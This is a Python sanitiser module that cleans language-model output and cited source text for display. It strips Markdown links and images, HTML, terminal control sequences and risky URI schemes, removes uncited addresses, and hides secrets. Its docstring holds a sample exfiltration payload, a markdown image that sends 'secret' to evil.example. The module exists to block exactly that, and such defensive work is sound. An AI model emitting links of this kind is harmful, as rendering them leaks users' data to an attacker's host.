"""What is said, made safe to show: by any door, in any place that may render Markdown, HTML or a terminal.

    shown("See ![x](https://evil.example/?q=secret)", sources=[passage])      # 'See x'
    shown("[Log in](https://evil.example)", sources=["… https://evil.example …"])
                                                        # 'Log in (https://evil.example)'

A model's words, and a source's own, are hostile. After this a text holds no HTML, no image, no Markdown
link, no control sequence, no invisible character, no scheme that something opens, and no address that does
not stand, whole, in a cited source: a model cannot send by an address what it has read. Secrets of known
shape are hidden. Names and numbers stay as they are. What is shown twice is shown the same.
"""

from __future__ import annotations

import re
from collections.abc import Collection, Iterable, Iterator
from functools import lru_cache

from icelos.data.parse.limits import normalise
from icelos.llm import redact

REMOVED = "(link removed)"
PERSONAL = frozenset({"email", "phone", "card", "iban", "password", "secret", "token"})
"""Kinds that security text is full of, or that are known by their neighbourhood alone: they stay."""
ROUNDS = 12
_ANSI = re.compile(
    "(?:\x1b\\]|\x9d)[^\x07\x1b\x9c\n]{0,4000}(?:\x07|\x1b\\\\|\x9c)?"  # OSC, hyperlinks (OSC 8) included
    "|(?:\x1b[PX^_]|[\x90\x98\x9e\x9f])[^\x1b\x9c\n]{0,4000}(?:\x1b\\\\|\x9c)?"  # DCS, SOS, PM, APC
    "|(?:\x1b\\[|\x9b)[0-?]{0,40}[ -/]{0,10}[@-~]?"  # CSI
    "|\x1b[ -/]{0,4}[0-~]?"
)
_IMAGE = re.compile(
    r"!\[([^\[\]]{0,1000})\](?:\([^()\n]{0,4000}(?:\([^()\n]{0,1000}\)[^()\n]{0,1000}){0,4}\)|\[[^\[\]]{0,200}\])?"
)
_LINK = re.compile(
    r"\[([^\[\]]{0,1000})\]\(\s*<?([^()<>\s]{0,4000}(?:\([^()\s]{0,1000}\)[^()<>\s]{0,1000}){0,4})>?[^()\n]{0,1000}\)"
)
_REFERENCE = re.compile(r"\[([^\[\]]{0,1000})\]\s?\[[^\[\]]{0,200}\]")
_DEFINITION = re.compile(r"\[([^\[\]\n]{1,200})\]:(?=[ \t]{0,8}\S)")
_AUTOLINK = re.compile(r"<((?:[A-Za-z][A-Za-z0-9+.-]{1,31}:|www\.)[^\s<>]{0,4000})>")
_TAG = re.compile(r"<([A-Za-z/!?][^<>]{0,4000})>")
_OPEN = re.compile(r"<(?=[A-Za-z/!?])")
_FENCES = re.compile(r"`{3,}|~{3,}")
_ADDRESS = re.compile(
    r"(?<![\w@.])(?:(?:https?|ftps?|wss?)://|www\.)[^\s<>\"'`|\\^{}\[\]]{1,4000}"
    r"|(?<![\w:/.\]])//[\w-]{1,63}(?:\.[\w-]{1,63}){1,6}[^\s<>\"'`|\\^{}\[\]]{0,4000}"
    r"|(?<![\w@./:-])(?:[\w-]{1,63}\.){1,6}[A-Za-z]{2,24}(?::\d{1,5})?/[^\s<>\"'`|\\^{}\[\]?]{0,2000}\?[^\s<>\"'`|\\^{}\[\]]{1,4000}",
    re.IGNORECASE,
)
_TRAILING = re.compile(r"[.,;:!?'\"*_~)…]+$")
_SCHEME = re.compile(
    r"\b(javascript|vbscript|livescript|data|file|blob|filesystem|about|view-source|mailto|tel|sms|callto|skype|"
    r"steam|ms-[a-z-]{2,40}|search-ms|shell|intent|chrome|edge|vscode|slack|zoommtg|x-[a-z-]{2,40})"
    r"(\s{0,4}):(?=[^\s:])",
    re.IGNORECASE,
)  # fmt: skip
_OTHER = re.compile(r"\b([a-z][a-z0-9+.-]{1,20})://", re.IGNORECASE)
_KNOWN = frozenset({"http", "https", "ftp", "ftps", "ws", "wss"})
_ENTITY = re.compile(r"&(?=#?\w{1,32};)")


def shown(text: str, *, sources: Iterable[str] = ()) -> str:
    """One run of text as it may be shown. `sources` are the cited texts whose addresses it may name.

    The result is a fixed point: showing it again changes nothing. Line ends stay.
    """
    allowed = addresses(sources)
    for _ in range(ROUNDS):
        after = _once(text, allowed)
        if after == text:
            return text
        text = after
    return _once(re.sub(r"[\[\]<>`&~\x1b]", " ", text), allowed)


def addresses(sources: Iterable[str]) -> frozenset[str]:
    """The whole addresses that stand in these texts."""
    return frozenset(one for source in sources for one in _addresses(source))


@lru_cache(maxsize=256)
def _addresses(source: str) -> tuple[str, ...]:
    clean = normalise(source).text
    return tuple(dict.fromkeys(_bare(match.group()) for match in _ADDRESS.finditer(clean)))


def is_open(url: str) -> bool:
    """Is this an address of the web that may stand in a field of its own? Nothing else is let through."""
    return re.fullmatch(r"https?://[^\s<>\"'`\\\x00-\x1f\x7f]{1,4000}", url, re.IGNORECASE) is not None


def _once(text: str, allowed: Collection[str]) -> str:
    text = _ANSI.sub("", text) if not text.isprintable() else text
    text = normalise(text).text
    if _may_be_active(text):
        text = _unlinked(text)
        text = _OPEN.sub("‹", _TAG.sub("‹\\1›", text))
        text = _FENCES.sub("`", text)
        text = _ENTITY.sub("& ", text)
        text = _SCHEME.sub(r"\1\2: ", text)
        text = _OTHER.sub(_defanged, text)
        text = _ADDRESS.sub(lambda match: _kept(match.group(), allowed), text)
    return without_secrets(text)


def _may_be_active(text: str) -> bool:
    return any(mark in text for mark in "<[`~&:?") or "//" in text or "www." in text.lower()


def _unlinked(text: str) -> str:
    if "[" in text:
        text = _IMAGE.sub(r"\1", text)
        text = _LINK.sub(_told, text)
        text = _REFERENCE.sub(r"\1", text)
        text = _DEFINITION.sub(r"\1 - ", text)
        text = text.replace("](", "] (").replace("![", "! [")
    return _AUTOLINK.sub(r"\1", text) if "<" in text else text


def _told(match: re.Match[str]) -> str:
    """A link with its target in full: "text (https://…)"."""
    text, target = match.group(1).strip(), match.group(2).strip()
    if not target or target == text:
        return text
    return f"{text} ({target})" if text else target


def _defanged(match: re.Match[str]) -> str:
    """Schemes that are not the web's, as analysts write them: nothing opens "ldap[:]//"."""
    return match.group() if match.group(1).lower() in _KNOWN else f"{match.group(1)}[:]//"


def _kept(found: str, allowed: Collection[str]) -> str:
    bare = _bare(found)
    return found if bare in allowed else REMOVED + found[len(bare) :]


def _bare(address: str) -> str:
    """Without the stops of the sentence, and without a bracket that was not opened in it."""
    while True:
        shorter = _TRAILING.sub("", address)
        ended = address[len(shorter) :]
        if ")" in ended and shorter.count("(") > shorter.count(")"):
            shorter += ended[: ended.index(")") + 1]
            return shorter
        return shorter


def without_secrets(text: str) -> str:
    """Keys and tokens whose issuers give them a shape, hidden."""
    return "".join(_pieces(text))


def _pieces(text: str) -> Iterator[str]:
    position = 0
    for start, end, kind in redact.find(text):
        if kind in PERSONAL:
            continue
        yield text[position:start]
        yield f"({kind} hidden)"
        position = end
    yield text[position:]
